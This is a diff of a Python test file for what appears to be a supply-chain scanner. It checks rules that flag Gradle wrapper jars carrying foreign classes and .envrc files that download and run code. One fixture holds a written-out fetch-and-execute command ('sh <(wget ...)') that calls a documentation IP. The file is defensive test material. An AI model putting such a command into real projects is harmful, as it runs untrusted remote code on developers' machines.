@@ -89,20 +89,19 @@ silent("envrc_openssl_to_dotenv", "envrc_downloads_and_runs", ".envrc",
        also="envrc_added")
 
 
-def wrapper_jar(extra):
+def wrapper_jar(*extra):
     import io, zipfile
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
-        for name in ["META-INF/MANIFEST.MF", "org/gradle/wrapper/GradleWrapperMain.class",
-                     "org/gradle/cli/CommandLineParser.class", "gradle-wrapper-classpath.properties"] + extra:
-            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
-            z.writestr(info, b"\xca\xfe\xba\xbe" + name.encode())
+        for name in ("META-INF/MANIFEST.MF", "org/gradle/wrapper/GradleWrapperMain.class",
+                     "org/gradle/cli/CommandLineParser.class", "gradle-wrapper-classpath.properties", *extra):
+            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), b"\xca\xfe\xba\xbe" + name.encode())
     return buf.getvalue()
 
 
 fires("gradle_wrapper_jar_extra_classes", "gradle_wrapper_jar_foreign_code", "high", "app/gradle/wrapper/gradle-wrapper.jar",
-      "gradle-wrapper-extra.jar", wrapper_jar(["com/cdn/Loader.class"]))
+      "gradle-wrapper-extra.jar", wrapper_jar("com/cdn/Loader.class"))
 silent("gradle_wrapper_jar_official_layout", "gradle_wrapper_jar_foreign_code", "app/gradle/wrapper/gradle-wrapper.jar",
-       "gradle-wrapper.jar", wrapper_jar([]))
+       "gradle-wrapper.jar", wrapper_jar())
 fires("envrc_sh_process_subst_wget", "envrc_downloads_and_runs", "critical", ".envrc",
       "envrc-wget-subst", "layout python3\nsh <(wget -O- https://203.0.113.4/env)\n")
